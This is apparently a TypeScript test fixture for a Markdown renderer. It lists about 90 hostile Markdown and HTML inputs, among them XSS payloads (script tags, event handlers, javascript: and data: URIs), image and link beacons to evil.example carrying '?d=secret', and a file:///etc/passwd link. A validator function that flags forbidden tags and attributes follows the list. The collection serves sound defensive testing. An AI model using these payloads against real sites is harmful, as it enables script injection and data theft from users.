/** Markdown that tries to run code, to load something, or to name a handler. Written for the project after the published attack classes. */
export const hostileMarkdown: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/p.png?d=secret">',
  '<img srcset="https://evil.example/p.png 2x">',
  '<svg onload=alert(1)><use href="https://evil.example/s.svg#x"/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)">',
  '<object data="https://evil.example/o"></object>',
  '<embed src="https://evil.example/e">',
  '<video poster="https://evil.example/v.png"><source src="https://evil.example/v.mp4"></video>',
  '<audio src="https://evil.example/a.mp3" autoplay onplay=alert(1)>',
  '<link rel="stylesheet" href="https://evil.example/c.css">',
  '<link rel="prefetch" href="https://evil.example/p">',
  '<link rel="dns-prefetch" href="//evil.example">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<style>@import "https://evil.example/c.css"; body{background:url(https://evil.example/b)}</style>',
  '<div style="background:url(https://evil.example/b)">x</div>',
  '<form action="https://evil.example"><input name=a><button formaction="javascript:alert(1)">go</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="https://evil.example" ping="https://evil.example/ping">x</a>',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](blob:https://evil.example/1)',
  '[x](https://evil.example "title\\" onmouseover=\\"alert(1)")',
  '[x](<https://evil.example/" onclick="alert(1)>)',
  '[x]: javascript:alert(1)\n\n[x] and [x][x]',
  '![x](https://evil.example/p.png?d=secret)',
  '![x](//evil.example/p.png)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x" onerror="alert(1)](https://evil.example/p.png)',
  '![a][b]\n\n[b]: https://evil.example/ref.png',
  '[![x](https://evil.example/a.png)](https://evil.example)',
  '<https://evil.example/auto?d=secret>',
  'https://evil.example/bare?d=secret and www.evil.example',
  '<javascript:alert(1)>',
  '| <img src=x onerror=alert(1)> | b |\n| --- | --- |\n| ![x](https://evil.example/t.png) | [x](javascript:alert(1)) |',
  '- [x] <img src=x onerror=alert(1)>\n- [ ] [x](javascript:alert(1))',
  'text[^1]\n\n[^1]: <img src=x onerror=alert(1)> ![x](https://evil.example/f.png)',
  '# <img src=x onerror=alert(1)> {onclick=alert(1)}',
  '```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```',
  '```"onmouseover="alert(1)\ncode\n```',
  '```js onload=alert(1) style=background:url(https://evil.example)\ncode\n```',
  '`<img src=x onerror=alert(1)>`',
  '$\\href{javascript:alert(1)}{x}$',
  '$$\\includegraphics{https://evil.example/m.png}$$',
  '$\\htmlStyle{background:url(https://evil.example/s)}{x}$ $\\htmlData{onclick=alert(1)}{x}$',
  '$\\unicode{<img src=x onerror=alert(1)>}$',
  '\\(\\url{javascript:alert(1)}\\)',
  '<span class="hljs-keyword" onclick=alert(1)>x</span>',
  '<code class="math-inline">\\href{javascript:alert(1)}{x}</code>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '\u202E<img src=x onerror=alert(1)>',
  '<img src=`x` onerror=`alert(1)`>',
  '<img/src/onerror=alert(1)//',
  '<a\nhref="javascript:alert(1)"\n>x</a>',
  '<x onclick=alert(1)>x</x>',
  '~~<img src=x onerror=alert(1)>~~ **<b onclick=alert(1)>x</b>**',
  '> <img src=x onerror=alert(1)>\n> ![x](https://evil.example/q.png)',
  '<picture><source srcset="https://evil.example/w.webp"><img></picture>',
  '<table background="https://evil.example/bg"><td background="https://evil.example/bg">',
  '<portal src="https://evil.example">',
  '<svg><image href="https://evil.example/i.png"/><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<animate onbegin=alert(1) attributeName=x dur=1s>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<keygen autofocus onfocus=alert(1)>',
  '<style><!--</style><img src=x onerror=alert(1)>-->',
];

/** Elements an answer may consist of: what Markdown makes, and our own link, image and code parts (icons are drawn by us). */
const allowedTags = new Set(
  'a blockquote br button code del div em h1 h2 h3 h4 h5 h6 hr input li ol p path pre section span strong sup svg table tbody td th thead tr ul'.split(
    ' ',
  ),
);
/** Attributes that name an address, code or a style. None of them may be in an answer, but for the few written by React or the icons. */
const forbiddenAttribute =
  /^(?:on.*|src|srcset|href|xlink:href|action|formaction|data|poster|background|ping|cite|srcdoc|style|manifest|dynsrc|lowsrc|content|http-equiv|attributename|is|slot|id|name)$/i;
const harmlessStyle = /^(?:text-align:(?:left|right|center))?$/;

/** What is wrong with a piece of rendered HTML, one line each; empty when nothing is. */
export function dangersIn(html: string): string[] {
  const dangers: string[] = [];
  for (const [, name = '', attributes = ''] of html.matchAll(
    /<([a-zA-Z][\w:-]*)((?:\s+[^\s=>"]+(?:="[^"]*")?)*)\s*\/?>/g,
  )) {
    if (!allowedTags.has(name)) dangers.push(`element <${name}>`);
    for (const [, attribute = '', value = ''] of attributes.matchAll(/\s([^\s=>"]+)(?:="([^"]*)")?/g)) {
      if (attribute === 'style' && harmlessStyle.test(value)) continue;
      if (forbiddenAttribute.test(attribute)) dangers.push(`<${name} ${attribute}="${value}">`);
    }
  }
  // Whatever the pattern above did not take for a tag must not begin like one.
  const rest = html.replace(/<\/?[a-zA-Z][\w:-]*(?:\s+[^\s=>"]+(?:="[^"]*")?)*\s*\/?>/g, '');
  if (rest.includes('<')) dangers.push(`unread markup: ${rest.slice(rest.indexOf('<'), rest.indexOf('<') + 60)}`);
  return dangers;
}
